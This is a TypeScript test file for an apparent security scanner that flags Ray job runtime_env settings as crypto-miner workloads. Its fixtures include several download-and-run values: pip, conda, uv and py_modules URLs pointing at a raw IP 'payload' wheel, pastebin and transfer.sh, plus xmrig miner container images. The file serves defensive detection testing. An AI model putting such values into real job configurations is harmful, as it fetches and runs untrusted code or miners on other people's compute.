// What a Ray job's runtime_env names, Ray fetches and runs before the entrypoint: a requirement,
// working_dir or py_modules URL from a public raw IP or a dropper host is a download-and-run (high),
// conda's own pip list is read too, and the image the job runs in (`image_uri`, `container.image`)
// is judged as a container's image. Each case was missed (or only medium) before.
import assert from 'node:assert/strict';
import { after, describe, test } from 'node:test';
import { rayJob, rayRoutes } from '../../src/testing/fake-job-apis/ray.js';
import { startFakeJobApi, type FakeJobApi } from '../../src/testing/fake-job-apis/server.js';
import { runCli } from '../helpers/cli.js';

const servers: FakeJobApi[] = [];
after(async () => Promise.all(servers.map((s) => s.close())));

describe('kfguard hunt --ray: runtime_env', () => {
  test('fetched-and-run URLs, conda pip lists and the job image are judged; ordinary ones are not', async () => {
    const jobs = [
      rayJob({ submission_id: 'pip-raw-ip', entrypoint: 'python main.py', runtime_env: { pip: ['http://198.51.100.9/payload-0.1-py3-none-any.whl'] } }),
      rayJob({ submission_id: 'pip-paste', entrypoint: 'python main.py', runtime_env: { pip: { packages: ['git+https://pastebin.com/raw/abc'] } } }),
      rayJob({ submission_id: 'conda-pip', entrypoint: 'python main.py', runtime_env: { conda: { dependencies: ['python=3.10', { pip: ['http://198.51.100.9/x.whl'] }] } } }),
      rayJob({ submission_id: 'working-dir', entrypoint: 'python main.py', runtime_env: { working_dir: 'https://transfer.sh/abc/job.zip' } }),
      rayJob({ submission_id: 'py-modules', entrypoint: 'python main.py', runtime_env: { py_modules: ['http://198.51.100.9/m.zip'] } }),
      rayJob({ submission_id: 'uv', entrypoint: 'python main.py', runtime_env: { uv: ['http://198.51.100.9/x.whl'] } }),
      rayJob({ submission_id: 'image-uri', entrypoint: 'python main.py', runtime_env: { image_uri: 'docker.io/metal3d/xmrig:latest' } }),
      rayJob({ submission_id: 'container', entrypoint: 'python main.py', runtime_env: { container: { image: 'docker.io/someone/xmrig-cuda:6.21' } } }),
      rayJob({ submission_id: 'clean', entrypoint: 'python train.py', runtime_env: { pip: ['torch==2.3.0', 'https://download.pytorch.org/whl/cu121/torch-2.3.0-cp311-linux_x86_64.whl'], working_dir: 's3://company-bucket/jobs/x.zip', py_modules: ['http://10.0.3.7:9000/mods/m.zip'], image_uri: 'rayproject/ray:2.40.0-gpu' } }),
      rayJob({ submission_id: 'github-zip', entrypoint: 'python main.py', runtime_env: { working_dir: 'https://github.com/org/repo/archive/refs/heads/main.zip' } }),
    ];
    const api = await startFakeJobApi(rayRoutes(jobs));
    servers.push(api);
    const run = await runCli(['hunt', '--ray', api.url, '--format', 'json', '--fail-on', 'none']);
    const report = JSON.parse(run.stdout) as { findings: { ruleId: string; severity: string; evidence: string[]; origin: { id: string } }[] };
    const verdict = (id: string) => report.findings.filter((f) => f.origin.id === id && f.ruleId === 'crypto-miner-workload').map((f) => f.severity).join() || 'none';
    for (const id of ['pip-raw-ip', 'pip-paste', 'conda-pip', 'working-dir', 'py-modules', 'uv']) assert.equal(verdict(id), 'high', id);
    assert.equal(verdict('image-uri'), 'critical', 'a known miner image');
    assert.equal(verdict('container'), 'high', 'an image named as a miner');
    for (const id of ['clean', 'github-zip']) assert.equal(verdict(id), 'none', id);
    const conda = report.findings.find((f) => f.origin.id === 'conda-pip');
    assert.match(conda?.evidence.join('\n') ?? '', /Ray job runtime_env conda pip requirement/);
    assert.match(report.findings.find((f) => f.origin.id === 'image-uri')?.evidence.join('\n') ?? '', /metal3d\/xmrig.*runtime_env image_uri/);
  });
});
